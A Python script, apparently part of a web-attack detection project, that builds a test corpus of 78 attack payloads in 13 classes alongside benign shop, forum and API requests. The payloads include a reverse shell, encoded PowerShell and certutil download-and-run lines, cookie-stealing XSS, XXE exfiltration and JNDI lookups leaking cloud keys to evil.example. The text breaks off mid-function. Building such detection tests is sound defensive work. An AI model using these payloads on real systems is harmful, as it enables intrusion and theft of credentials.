"""A third, held-out corpus for `make eval-detection`, written after the rules
of this session were, and without reading them (nor the reports of earlier
runs): its first run measures how the detection generalises, to attacks and
to benign traffic alike. It holds 78 attack payloads, 6 for each of the 13
classes, varied in technique (SQL dialects, XSS sinks and events, Windows
and Unix, template engines, the obfuscations attackers use), each in query,
path, form, JSON, header, cookie and User-Agent, plain, URL-encoded and
base64 (generate.py's placements and encodings); and about 200 benign
requests of 18 kinds (the `placement`), one per written text, with
generate.py's browser and API headers (webhooks carry their senders').
Every payload and text was written for this project; none is in
generate.py or second_corpus.py. Tokens, ids, cookies and images are
generated from a fixed seed.

Usage: third_corpus.py OUT_FILE
"""
import hashlib
import json
import struct
import sys
import urllib.parse
import zlib
from base64 import b64encode
from datetime import datetime, timedelta, timezone
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import generate as g  # noqa: E402

SEED = 31
PLACEMENTS = ["query", "path", "form", "json", "header", "cookie", "user_agent"]
ENCODINGS = ["plain", "url", "base64"]

# Attack payloads by class, six each.
ATTACKS = {
    "sqli": [
        "1'/*!50000UnIoN*/ /*!50000SeLeCt*/ 1,group_concat(user,0x3a,authentication_string),3 fRoM mysql.user-- -",
        "';declare @h varchar(99);set @h='\\\\'+(select top 1 name from sys.databases)+'.evil.example\\x';"
        "exec master..xp_dirtree @h;--",
        "1;SELECT/**/CASE/**/WHEN/**/current_setting($$is_superuser$$)=$$on$$/**/THEN/**/pg_sleep(4)/**/END--",
        "' AND 7=DBMS_PIPE.RECEIVE_MESSAGE(CHR(97)||CHR(98),6)-- ",
        "')\nuNiOn\nsElEcT\nname,sql\nfRoM\nsqlite_master--",
        "1'AnD(SeLeCt(IF(ord(mid(@@version,1,1))>52,benchmark(3000000,md5(1)),0)))#",
    ],
    "xss": [
        "<marquee loop=1 width=0 onfinish=top[\"al\"+\"ert\"](1)>x</marquee>",
        "<form><button formaction=javascript:eval(atob('ZmV0Y2goJy8vZXZpbC5leGFtcGxlL2s/Jytkb2N1bWVudC5jb29raWUp'))>"
        "go</button></form>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></object>",
        "<DiV OnPoInTeReNtEr=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>hover me</DiV>",
        "</script><script>new Image().src='//evil.example/c?'+document.cookie</script>",
        "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=alert(1)>",
    ],
    "path_traversal": [
        "..%252f..%252f..%252f..%252fetc%252fshadow",
        "..\\..\\..\\..\\inetpub\\wwwroot\\web.config",
        "..%5C..%5C..%5CWindows%5CSystem32%5Cconfig%5CSAM",
        "..%u2215..%u2215..%u2215proc%u2215self%u2215cmdline",
        "....\\/....\\/....\\/home/ubuntu/.ssh/id_rsa",
        ".%2e/.%2e/.%2e/.%2e/var/www/html/.env",
    ],
    "cmdi": [
        ";{cat,/etc/passwd}",
        ";c''a\"\"t /e?c/p??swd",
        "|| python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.9.8.7\",9001));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
        "| powershell -nop -w hidden -enc SQBFAFgAKABpAHcAcgAgAC0AVQBzAGUAQgBhAHMAaQBjAFAAYQByAHMAaQBuAGcAIABoAHQAd"
        "ABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC8AcAAuAHAAcwAxACkA",
        "& certutil -urlcache -split -f http://evil.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe",
        "&c^m^d /c \"who^ami\"",
    ],
    "ldap": [
        "admin)(!(objectClass=void))(|(uid=admin",
        "*)(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=example)(|(cn=*",
        "*)(userAccountControl:1.2.840.113556.1.4.803:=2)(|(cn=*",
        "j*)(|(sn=a*)(sn=b*)(sn=c*",
        "%2a)(%7c(objectclass%3d%2a)",
        "*)(&(objectCategory=computer)(ms-Mcs-AdmPwd=*))(|(cn=*",
    ],
    "crlf": [
        "x%E5%98%8A%E5%98%8DSet-Cookie:%20admin=true",
        "cb\r\nAccess-Control-Allow-Origin: https://evil.example\r\nAccess-Control-Allow-Credentials: true",
        "%0d%0aX-XSS-Protection:%200%0d%0a%0d%0a<svg onload=alert(1)>",
        "/login\rLocation: https://evil.example/login",
        "hello\r\n.\r\nMAIL FROM:<x@evil.example>\r\nRCPT TO:<victim@example.org>\r\nDATA",
        "guest\n[2026-01-01 00:00:00] INFO login succeeded user=admin ip=10.0.0.1",
    ],
    "ssi": [
        "<!--#EXEC   CMD=\"/bin/cat /etc/shadow\" -->",
        "<!--#set var=\"c\" value=\"uname -a\" --><!--#exec cmd=\"$c\" -->",
        "<!--#flastmod virtual=\"/index.shtml\" -->",
        "<esi:vars>$(HTTP_COOKIE{'session'})</esi:vars>",
        "<!--#if expr=\"$QUERY_STRING = /x/\" --><!--#exec cgi=\"/cgi-bin/test-cgi\" --><!--#endif -->",
        "<!--#include file=\"..\\..\\..\\boot.ini\" -->",
    ],
    "ssti": [
        "{{lipsum|attr(\"\\x5f\\x5fglobals\\x5f\\x5f\")|attr(\"get\")(\"os\")|attr(\"popen\")(\"id\")|attr(\"read\")()}}",
        "{{['id']|map('system')|join}}",
        "{if system('cat /etc/passwd')}{/if}",
        "<%= IO.popen('id').readlines() %>",
        "${self.module.cache.util.os.system(\"id\")}",
        "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    ],
    "nosql": [
        "{\"username\": \"admin\", \"password\": {\"$regex\": \".*\"}}",
        "username[$regex]=^a&password[$gt]=",
        "{\"$where\": \"sleep(3000) || true\"}",
        "{\"role\": {\"$nin\": [\"customer\"]}, \"active\": {\"$exists\": true}}",
        "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]",
        "{\"user\": {\"\\u0024ne\": null}, \"pass\": {\"\\u0024ne\": null}}",
    ],
    "xxe": [
        "<!DOCTYPE r [<!ENTITY % f SYSTEM \"file:///etc/hostname\">"
        "<!ENTITY % d \"<!ENTITY &#x25; x SYSTEM 'http://evil.example/?%f;'>\">%d;%x;]><r/>",
        "<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY n SYSTEM \"netdoc:///etc/passwd\">]><s>&n;</s>",
        "<!DOCTYPE m [<!ENTITY % local SYSTEM \"file:///usr/share/yelp/dtd/docbookx.dtd\">"
        "<!ENTITY % ISOamso '<!ENTITY &#x25; e SYSTEM \"file:///nonexistent/&#x25;f;\">'>%local;]><m/>",
        "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///home/app/.aws/credentials\">]>"
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"16\">&h;</text></svg>",
        "<!DOCTYPE j [<!ENTITY x SYSTEM \"jar:http://evil.example/a.zip!/b.txt\">]><j>&x;</j>",
        "<!DOCTYPE\n  w [\n  <!ENTITY\tu SYSTEM\n\t\"file:///c:/inetpub/wwwroot/web.config\">\n]>\n<w>&u;</w>",
    ],
    "jndi": [
        "${${lower:J}${lower:N}${lower:D}${lower:I}:${lower:L}${lower:D}${lower:A}${lower:P}://evil.example/c}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/d}",
        "${jndi:${lower:d}${lower:n}${lower:s}://${env:AWS_SECRET_ACCESS_KEY}.evil.example}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/e}",
        "${jndi:nds://evil.example/g}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fh%7D",
    ],
    "php": [
        "<? passthru($_COOKIE['c']); ?>",
        "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:6:\"socket\";N;}",
        "zip://uploads/avatar.zip%23shell.php",
        "call_user_func_array('shell_exec',array('uname -a'));",
        "$a='sys'.'tem';$a('id');",
        "-d allow_url_include=1 -d auto_prepend_file=php://input",
    ],
    "ssrf": [
        "http://0177.0.0.1:8080/manager/html",
        "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
        "http://evil.example@127.0.0.1:2375/containers/json",
        "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        "http://0x7f.0x0.0x0.0x1:9200/_cat/indices?v",
        "http://⑯⑨。②⑤④。⑯⑨｡②⑤④/latest/user-data",
    ],
}

# ---------------------------------------------------------------- benign
#
# Texts people send to a shop, a SaaS and its forum, one request each.

SEARCHES = [
    "select a plan", "drop shipping suppliers europe", "screenplay writing course online", "rm 101 room booking",
    "union carpenters apprenticeship", "insert tabs for ring binders", "exec assistant jobs remote",
    "cat eye sunglasses polarized", "how to style an alert dialog in javascript", "<br> tag vs css margin",
    "where clause vs having clause", "kill bill vol 2 blu-ray", "sleep number bed sale", "o'hare parking rates",
    "drop leaf table oak extendable", "null and void meaning",
]

CONTACT = [
    "Hi, I picked the annual plan by mistake. Could you switch me to monthly and drop the extra seats we never used?",
    "Our union branch would like to order 40 hoodies with the logo on the back; is there a bulk discount "
    "where the order exceeds 30 pieces?",
    "The checkout page froze after I selected PayPal; the spinner ran for ten minutes and then the page said "
    "'session expired'.",
    "Please update the invoice: the company name should read Fletcher & Sons Ltd, not Fletcher and Son.",
    "I run a small script-writing workshop for teenagers and wondered whether you offer an education discount.",
    "When I paste a link into the <description> box it turns into plain text; is HTML allowed there or only Markdown?",
    "Could someone kill the duplicate subscription? I see two charges of £7.99 on 3 March and one on 4 March.",
    "My grandmother (87) wants to join the Tuesday chair-yoga class; is the hall step-free from the car park?",
    "Your newsletter arrives three times a week. Where do I select 'monthly'? Once a month is plenty for me.",
    "I ordered the exec desk in walnut, but the delivery note says oak. Which one is actually in the box?",
    "To whom it may concern: we wish to insert a clause about late deliveries into our supply agreement "
    "before it renews on 1 July.",
    "Is the 'Select' tier the same as the old 'Pro' plan, or did features get dropped when you renamed it?",
    "The cat flap sensor keeps beeping at night; I've reset it twice and swapped the batteries. Sleepless in Sheffield!",
    "Quick one: can I delete a review I wrote on the wrong product, or does a moderator have to remove it?",
]

CONTACT_I18N = [
    ("de", "Guten Tag, ich würde gern das Abo kündigen und mein Konto löschen lassen. Vielen Dank im Voraus!"),
    ("fr", "Bonsoir, le colis est arrivé abîmé : l'abat-jour de la lampe de chevet est écrasé. "
           "Pouvez-vous m'envoyer un remplacement ?"),
    ("es", "Hola, ¿podrían cambiar la talla de mi pedido a una 42? Según el seguimiento, todavía no ha salido "
           "del almacén."),
    ("it", "Buongiorno, vorrei sapere se la borsa in pelle è disponibile anche color cognac. Grazie mille!"),
    ("pt", "Olá! A encomenda n.º 58213 ainda não chegou e já passaram duas semanas. Podem verificar, por favor?"),
    ("nl", "Goedemiddag, de rits van mijn jas is na één week kapotgegaan. Kan ik hem ruilen of krijg ik mijn geld terug?"),
    ("pl", "Witam, czy mogę odebrać zamówienie osobiście w sklepie przy ulicy Długiej? Pozdrawiam serdecznie."),
    ("cs", "Dobrý den, mohu změnit doručovací adresu? Od pondělí budu bydlet v Brně. Děkuji."),
    ("tr", "Merhaba, faturamda şirket adı yanlış yazılmış; düzeltilmiş bir fatura gönderebilir misiniz?"),
    ("ja", "お世話になっております。先週注文したマグカップが割れて届きました。交換をお願いできますか？"),
    ("zh", "您好，我想查詢訂單的配送進度，已經等了十天了，謝謝！"),
    ("ko", "안녕하세요, 주문한 운동화 사이즈를 270으로 바꾸고 싶습니다. 가능할까요?"),
    ("ru", "Здравствуйте! Подскажите, можно ли оплатить заказ при получении? Спасибо."),
    ("ar", "السلام عليكم، هل يمكن تغيير موعد التوصيل إلى يوم السبت؟ شكراً لكم."),
    ("sv", "Hej! Jag försöker logga in men får 'select an account' varje gång, och sedan händer ingenting."),
]

# (rating, title, text)
REVIEWS = [
    (5, "Perfect fit", "Five stars!!! Fits my 15.6\" laptop perfectly; the zip feels sturdy :)"),
    (4, "Worth it on sale", "Paid €34,90 (on sale, was €49,90) -- worth every cent. "
                             "Colour is more 'teal' than 'navy' though."),
    (2, "Not waterproof", "Meh. The \"waterproof\" jacket soaked through in 20 min of drizzle :-( 2/5"),
    (5, "Great gifts", "Bought 3 (one for me, two as gifts); all arrived by Tue. 10/10 would buy again ^^"),
    (3, "Check the size", "Smaller than expected: 12cm x 8cm, not 12\" x 8\"... read the specs, people! ;-)"),
    (2, "Leaky lid", "It's OK for the price ($12.49), but the lid doesn't close tight -> coffee everywhere >:("),
    (4, "Kids love it", "My kids (6 & 9) love it <3 The instructions were 'interesting' (step 14?!), but we got there."),
    (4, "Good battery", "Battery lasts ~9h with Wi-Fi on; the advertised 12h is \"up to\", I guess. Still 4/5."),
    (3, "Tasty, badly packed", "Great taste, terrible packaging: 2 of the 6 jars were cracked :/ Customer service "
                               "refunded £8.50 within a day, though!"),
    (5, "Best blender", "Love love LOVE this blender!!! Smoothies in 30 sec; cleanup < 2 min. #notsponsored"),
    (4, "Size down", "Runs large -- I'm usually an 'M' and the 'S' fits; sleeves are long (I'm 5'4\")."),
    (3, "Does the job", "Neutral: does what it says, nothing more. ★★★☆☆"),
    (1, "Broke in 2 weeks", "Worked for 2 weeks, then: click... click... nothing. "
                             "Replacement on the way; fingers crossed 🤞"),
    (5, "Bargain", "Excellent value @ 2-for-£15 (#bargain); scent = 'fresh linen', not overpowering :-)"),
]

# (name, street, city, country, delivery note)
ADDRESSES = [
    ("Ciarán O'Sullivan", "Apt 4, 17 Dame's Lane", "Galway H91 X2Y3", "IE", "Leave it in the porch if nobody's in"),
    ("Maëlle Le Goff-Kerouac", "3 bis, rue du Pont-l'Abbé", "29000 Quimper", "FR", "Digicode 4512B, 2e étage"),
    ("Jürgen Weiß", "Hauptstraße 12 (Hinterhaus, 3. OG)", "80331 München", "DE", ""),
    ("Dolores Ibáñez de la Cruz", "C/ Mayor, 7, 2º B", "41001 Sevilla", "ES", "Portero automático: pulse el 2B"),
    ("Kwame Mensah-Bonsu", "22 Union Terrace, Flat 1/2", "Aberdeen AB10 1NJ", "GB",
     "Buzzer 1/2 doesn't work -- please phone"),
    ("Nils Æbeltoft", "Nørregade 7, 2. tv.", "1165 København K", "DK", ""),
    ("Tomás Ó Ceallaigh", "Unit 5/6, Ballymount Business Park", "Dublin 12 D12 K7W2", "IE",
     "Goods-in: Mon–Fri 8:00–16:00"),
    ("Ana-María Ruíz O'Donnell", "Av. de los Insurgentes Sur 1602, Piso 9", "03940 Ciudad de México, CDMX", "MX",
     "Recepción cierra a las 18 h"),
    ("Rahul D'Cruz", "B-204, Sunshine Apts., 14th Cross, Indiranagar", "Bengaluru 560038", "IN",
     "Call before delivery; the lift is slow!"),
    ("Zuzanna Grzegorczyk-Łęcka", "ul. Floriańska 3/12", "31-019 Kraków", "PL", ""),
    ("山田 太郎", "大阪府大阪市北区梅田3-1-1 グランフロント 12F", "530-0001", "JP", "平日のみ受取可"),
    ("Lars-Åke Nyström", "Storgatan 14 B, lgh 1102", "411 38 Göteborg", "SE", "Porten: kod 1234#"),
]
NAMES = [a[0] for a in ADDRESSES] + ["Chidi Okafor-Benson", "Inès Lindqvist", "Patrick O'Malley-Kerr",
                                     "Hana Nováková", "Ömer Yıldız", "Priya Raghunathan"]
EMAILS = ["ciaran.osullivan@example.ie", "m.legoff@example.fr", "j.weiss+shop@example.de", "dolores.ibanez@example.es",
          "kwame@mensah-bonsu.example", "r.dcruz@example.in", "orders@fletcher-sons.example.co.uk",
          "lars-ake.nystrom@example.se", "o'malley.p@example.com", "priya.r+returns@example.net"]

PRODUCTS = ["Walnut desk organiser", "Linen duvet cover, king", "Ceramic pour-over set", "Trail running shoes (UK 9)",
            "Cast-iron skillet 26 cm", "Kids' art smock", "USB-C hub, 7-in-1", "Herbal tea sampler (12 bags)",
            "Beeswax candle trio", "Merino beanie -- charcoal", "Bamboo cutting board", "Noise-cancelling earbuds"]

ORDER_NOTES = [
    "Happy 40th, Sam! Don't spend it all on one drink ;)",
    "Please deliver after 5 pm -- we're both at work until then.",
    "Gift for my dad: no prices on the packing slip please.",
    "Merry Christmas from all of us at No. 7 <3",
    "Select the greenest box you've got, he's a tree hugger.",
    "Congratulations on the new job -- you'll be brilliant. x",
    "Fragile: the vase is for my sister's wedding (Sat 14 June).",
    "Union meeting order -- bill the branch, not me personally.",
    "Replaces the broken one from order #70112, as agreed on the phone with Priya.",
    "Bon anniversaire, Mamie ! Gros bisous de Lyon.",
    "Use the side entrance on Elm St.; the front door is being painted.",
    "Drop it with the concierge; the lobby code is in the delivery app.",
]

BIOS = [
    "Out until Monday 9 June; for urgent orders contact sales@shop.example.",
    "Product designer. Coffee, cats & clean typography. Opinions my own.",
    "Back-end dev @ a small SaaS; I write SQL for fun and Python for money.",
    "Away: parental leave until September. Ping Jordan for anything billing-related.",
    "She/her · Lisbon · runner · always choosing the window seat",
    "Support lead. If you're reading this, I've probably already replied :)",
    "Gardener, bee-keeper, occasional shell-script tinkerer.",
    "Working hours 8:00–16:00 CET; I answer mail twice a day.",
    "Ask me about drop-shipping, customs forms & why your parcel is in Leipzig.",
    "Teacher by day, board-game designer by night. Currently: 'Select & Seize' (prototype #3).",
]

MARKDOWN = [
    "Thanks for the quick fix! Two follow-ups:\n\n1. The **Export** button still shows on mobile\n"
    "2. Dates in the CSV are `MM/DD/YYYY` -- could they be ISO?\n\n"
    "Details in [the ticket](https://support.shop.example/t/81234).",
    "+1 to this. We ran into the same thing; our workaround is described here: "
    "<https://wiki.example.org/ops/runbooks/cache-purge>",
    "### Packing checklist\n\n- [x] tent & poles\n- [x] sleeping bags\n"
    "- [ ] stove fuel (the *blue* canister)\n- [ ] first-aid kit",
    "> The new pricing page is confusing\n\nAgreed. Maybe a comparison table? Something like:\n\n"
    "| Feature | Free | Select |\n|---|---|---|\n| Projects | 3 | unlimited |",
    "Recipe update: use *half* the salt, and see [this video](https://video.example.com/watch?v=K9xPq2&t=95s) "
    "for the folding technique.",
    "Changelog draft:\n\n* **Added**: bulk delete for drafts\n* **Changed**: `order by` default is now newest first\n"
    "* **Fixed**: emoji in titles 🎉",
    "Could we link the [style guide](https://design.example.org/guide#buttons) from the README? "
    "Newcomers keep asking where the button specs live.",
    "1. Preheat to 200 °C\n2. Roast the squash ~35 min\n3. Blend with stock\n\n"
    "_Tip_: a dash of smoked paprika works wonders.",
    "Meeting notes (12 May)\n\n- **Decision**: drop the legacy app in Q3\n- **Owner**: @marta\n"
    "- **Next**: draft email to customers ([template](https://docs.example.com/d/8f2a))",
    "Nice write-up! Small typo in step 3: `npm ci` not `npm cl` ;-)",
    "Photo of the damage: ![scratched lid](https://uploads.shop.example/u/5512/lid.jpg)\n\n"
    "The box itself was fine, so it was probably packed like that.",
    "**Update:** resolved after clearing the cache. Leaving [the thread](https://forum.example.org/t/login-loop/4412) "
    "here in case it helps someone.",
]

CHAT = [
    "brb, grabbing coffee ☕",
    "did anyone else get the 'select a workspace' popup after the update?",
    "lunch at 12:30? the new ramen place on Union Rd",
    "ok pushed the fix, can someone pls re-run the build 🙏",
    "lol the cat just walked across my keyboard and sent 'ffffffffff'",
    "heads up: prod deploy at 16:00, no merges after 15:30 pls",
    "Can you drop the slides in the shared folder? Need them for tomorrow's 9am",
    "who owns the 'kill switch' feature flag for checkout?",
    "😂😂😂 that gif",
    "Sorry, I'm in rm 204 today, the usual one is booked",
    "thx! btw the link in the onboarding email points to /docs/v1, should be v2",
    "où est la réunion ? salle B ou C ?",
]

# (title, HTML body) of posts in a shop's CMS.
CMS_POSTS = [
    ("Spring collection", "<p>Our <strong>spring collection</strong> is here! Browse the "
     "<a href=\"https://shop.example/collections/spring\">new arrivals</a> before they sell out.</p>"),
    ("Easter opening hours", "<h2>Opening hours over Easter</h2><ul><li>Friday: closed</li>"
     "<li>Saturday: 10:00&ndash;16:00</li><li>Monday: closed</li></ul>"),
    ("Behind the scenes", "<p><img src=\"https://cdn.shop.example/blog/2026/04/workshop.jpg\" alt=\"Our workshop in Leeds\" "
     "width=\"800\" height=\"533\"></p><p>A look behind the scenes.</p>"),
    ("What customers say", "<blockquote><p>&ldquo;The best customer service I&rsquo;ve ever had.&rdquo;</p>"
     "<footer>&mdash; Priya, Bristol</footer></blockquote>"),
    ("Choosing a mattress", "<p>Need help choosing? Read our "
     "<a href=\"https://shop.example/guides/select-the-right-mattress\" title=\"Mattress guide\">mattress guide</a> "
     "or <em>chat with us</em>.</p>"),
    ("Size chart", "<table class=\"sizes\"><thead><tr><th>Size</th><th>Chest (cm)</th></tr></thead><tbody>"
     "<tr><td>S</td><td>86&ndash;91</td></tr><tr><td>M</td><td>96&ndash;101</td></tr></tbody></table>"),
    ("Recipe of the month", "<p>Recipe of the month:</p><ol><li>Whisk eggs &amp; sugar</li><li>Fold in flour</li>"
     "<li>Bake 25&nbsp;min</li></ol>"),
    ("Summer party", "<figure><img src=\"https://images.example.net/team/2026.png\" alt=\"The team at the summer party\">"
     "<figcaption>Summer party, 2026</figcaption></figure>"),
    ("Contact us", "<p>Questions? Email <a href=\"mailto:hello@shop.example\">hello@shop.example</a> or call "
     "<a href=\"tel:+441134960000\">0113 496 0000</a>.</p>"),
    ("Shipping cut-off", "<div class=\"notice\"><p><strong>Note:</strong> orders placed after 2&nbsp;pm ship the next "
     "working day.</p><br><p><small>Excludes bank holidays.</small></p></div>"),
]

# (tag, title, question) on a developer forum, in prose.
FORUM = [
    ("sql", "Latest status per order", "How do I select only the orders whose latest status is 'shipped' "
     "without a subquery for every order?"),
    ("postgres", "Dropping an index on a busy table", "Is it safe to drop an index concurrently on a busy Postgres "
     "table, or will it still block writes?"),
    ("cron", "Script can't find python3", "My cron job runs the script fine by hand, but from crontab it can't find "
     "python3. What PATH does cron use?"),
    ("javascript", "Click handler fires twice", "Why does my onclick handler fire twice when the button is inside a "
     "label element?"),
    ("node", "Streaming a child process", "What's the idiomatic way to exec a child process in Node and stream its "
     "stdout to the response?"),
    ("sql", "Slow union", "Our union query is slow because each branch does a full scan; would UNION ALL plus a "
     "DISTINCT at the end help?"),
    ("bash", "$@ vs $*", "In bash, what's the difference between $@ and $* when the arguments contain spaces?"),
    ("html", "Where does the script tag go?", "Should the script tag go in the head with defer, or at the end of the "
     "body? Lighthouse complains either way."),
    ("git", "Ignore chmod changes", "Is there a way to make git ignore file mode changes (chmod) without touching "
     "the global config?"),
    ("python", "Inserting 10k rows", "When I insert 10k rows in a loop it takes minutes; how do I batch the inserts "
     "with psycopg?"),
    ("css", "Span all grid columns", "Can a CSS grid item span all columns without knowing how many columns there are?"),
    ("linux", "rm and symlinks", "Does `rm -rf` follow symlinks to directories, or does it only remove the link itself?"),
]

# (language, code) posted as a snippet.
SNIPPETS = [
    ("sql", "SELECT c.country, COUNT(*) AS customers\nFROM customers c\nWHERE c.deleted_at IS NULL\n"
     "GROUP BY c.country\nHAVING COUNT(*) > 100\nORDER BY customers DESC;"),
    ("sql", "UPDATE inventory SET reserved = reserved - 1 WHERE sku = 'MUG-BLU-01' AND reserved > 0 RETURNING reserved;"),
    ("sql", "SELECT name, email FROM staff\nUNION ALL\nSELECT name, email FROM contractors\nORDER BY name;"),
    ("sql", "CREATE TABLE reviews (\n  id bigserial PRIMARY KEY,\n  product_id int NOT NULL REFERENCES products(id),\n"
     "  rating smallint CHECK (rating BETWEEN 1 AND 5),\n  body text\n);"),
    ("sql", "DELETE FROM carts WHERE updated_at < NOW() - INTERVAL 30 DAY LIMIT 5000;"),
    ("python", "orders = [o for o in orders if o.status != 'cancelled']\ntotal = sum(o.amount for o in orders)"),
    ("python", "@app.route('/health')\ndef health():\n    return {'ok': True}, 200"),
    ("python", "with sqlite3.connect('shop.db') as db:\n    db.execute('INSERT INTO log (msg) VALUES (?)', (msg,))"),
    ("js", "document.querySelectorAll('.faq button').forEach(b =>\n"
     "  b.addEventListener('click', () => b.nextElementSibling.toggleAttribute('hidden')));"),
    ("js", "const res = await fetch(`/api/v1/orders/${id}`, { method: 'DELETE' });\n"
     "if (!res.ok) throw new Error(res.statusText);"),
    ("css", ".btn-primary {\n  background: #0b5fff;\n  border-radius: 6px;\n  padding: .5rem 1rem;\n}\n"
     ".btn-primary:hover { filter: brightness(1.1); }"),
    ("css", "@media (max-width: 600px) {\n  nav ul { display: none; }\n  .hamburger { display: block; }\n}"),
    ("yaml", "name: CI\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
     "      - uses: actions/checkout@v4\n      - run: make test"),
    ("yaml", "database:\n  host: db.internal\n  port: 5432\n  pool: 10\nfeatures:\n  new_checkout: true"),
    ("regex", "^\\+?[0-9 ()-]{7,20}$"),
    ("regex", "(?i)^[a-z0-9._%+-]+@(?:[a-z0-9-]+\\.)+[a-z]{2,}$"),
    ("bash", "rsync -avz --delete ./public/ deploy@web01:/srv/www/"),
    ("bash", "kubectl get pods -n shop | grep -v Running"),
    ("go", "for _, item := range cart.Items {\n\ttotal += item.Price * float64(item.Qty)\n}"),
    ("rust", "let names: Vec<&str> = users.iter().map(|u| u.name.as_str()).collect();"),
]
SNIPPET_FILES = {"sql": "query.sql", "python": "snippet.py", "js": "snippet.js", "css": "styles.css",
                 "yaml": "config.yml", "regex": "pattern.txt", "bash": "run.sh", "go": "main.go", "rust": "main.rs"}

API_PATHS = ["/api/v1/me", "/api/v1/subscriptions?status=active", "/api/v2/invoices?from=2026-01-01&to=2026-03-31",
             "/api/v1/notifications/unread-count", "/api/v1/teams/42/members?role=admin", "/api/v1/exports/7781/status",
             "/api/v1/wishlist?include=prices", "/api/v1/loyalty/points"]

PAGES = ["/collections/summer-sale", "/products/drop-leaf-table-oak", "/blog/2026/05/how-we-select-our-suppliers",
         "/account/settings/notifications", "/cart?step=review", "/stores/union-road", "/help/returns-and-refunds",
         "/products/linen-duvet-cover-king?variant=sage"]

# (operation, query, variables); an operation without variables is sent as a GET.
GRAPHQL = [
    ("ProductPage", "query ProductPage($slug: String!) { product(slug: $slug) { id name description "
     "priceRange { min max } images(first: 4) { url altText } } }", lambda rng: {"slug": "drop-leaf-table-oak"}),
    ("AddToCart", "mutation AddToCart($cartId: ID!, $lines: [CartLineInput!]!) { cartLinesAdd(cartId: $cartId, "
     "lines: $lines) { cart { id totalQuantity } userErrors { field message } } }",
     lambda rng: {"cartId": g.uuid4(rng),
                  "lines": [{"merchandiseId": f"gid://shop/ProductVariant/{rng.randint(10**4, 10**5)}",
                             "quantity": rng.randint(1, 3)}]}),
    ("Me", "query Me { viewer { login email avatarUrl(size: 64) } }", None),
    ("Orders", "query Orders($after: String) { orders(first: 20, after: $after, filter: {status: [PAID, SHIPPED]}) "
     "{ pageInfo { hasNextPage endCursor } edges { node { id number total { amount currency } } } } }",
     lambda rng: {"after": g.b64url(f"cursor:v2:{rng.randint(10**5, 10**6)}".encode())}),
    ("UpdateProfile", "mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) "
     "{ profile { displayName bio } } }",
     lambda rng: {"input": {"displayName": rng.pick(NAMES), "bio": "Select drinks, drop beats, update playlists."}}),
    ("SearchReviews", "query SearchReviews($q: String!, $minRating: Int = 4) { reviews(search: $q, minRating: $minRating) "
     "{ totalCount nodes { rating title author { name } } } }", lambda rng: {"q": "where does it ship from"}),
    ("DeleteAddress", "mutation DeleteAddress($id: ID!) { deleteAddress(id: $id) { deletedId } }",
     lambda rng: {"id": g.uuid4(rng)}),
    ("Cart", "fragment Price on Money { amount currencyCode }\nquery Cart($id: ID!) { cart(id: $id) "
     "{ lines(first: 50) { nodes { quantity cost { total { ...Price } } } } } }", lambda rng: {"id": g.uuid4(rng)}),
]

CAPTIONS = ["Scan of receipt (page 1)", "Profile picture", "My signature", "Screenshot of the error",
            "Swatch: sage green", "QR code for table 12"]

FILE_NAMES = ["Invoice_2026-03 (final) v2.pdf", "Q3 report – draft; do not share.docx", "résumé-Zoé_Martin.pdf",
              "IMG_20260512_184233.jpg", "backup-2026-05-01.tar.gz", "John's passport scan.png", "notes[1].txt",
              "cmd-line cheatsheet.md"]
CONTENT_TYPES = {"pdf": "application/pdf", "jpg": "image/jpeg", "png": "image/png", "gz": "application/gzip",
                 "txt": "text/plain", "md": "text/markdown",
                 "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document"}

BASE_TIME = datetime(2026, 1, 5, tzinfo=timezone.utc)


def iso(rng) -> str:
    """An ISO 8601 UTC time in the first half of 2026."""
    return (BASE_TIME + timedelta(seconds=rng.randint(0, 180 * 86400))).strftime("%Y-%m-%dT%H:%M:%SZ")


def png(rng) -> bytes:
    """A small, valid PNG: a checker pattern of two to four random colours."""
    w, h, cell = rng.randint(8, 48), rng.randint(8, 48), rng.choice([2, 4, 8])
    colours = [rng.randbytes(3) for _ in range(rng.randint(2, 4))]
    rows = b"".join(b"\x00" + b"".join(colours[(x // cell + y // cell) % len(colours)] for x in range(w))
                    for y in range(h))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b""))


def long_cookie(rng) -> str:
    """generate.py's shop cookie plus preferences, a wishlist, a bot-check and a host-only session."""
    prefs = {"currency": rng.choice(["GBP", "EUR", "USD"]), "units": "metric", "filters": ["in-stock", "under-50"],
             "last_store": "union-road"}
    wishlist = [rng.randint(1000, 9999) for _ in range(rng.randint(3, 12))]
    ts = 1767600000 + rng.randint(0, 10**7)
    return "; ".join([g.long_cookie(rng), "prefs=" + urllib.parse.quote(json.dumps(prefs, separators=(",", ":"))),
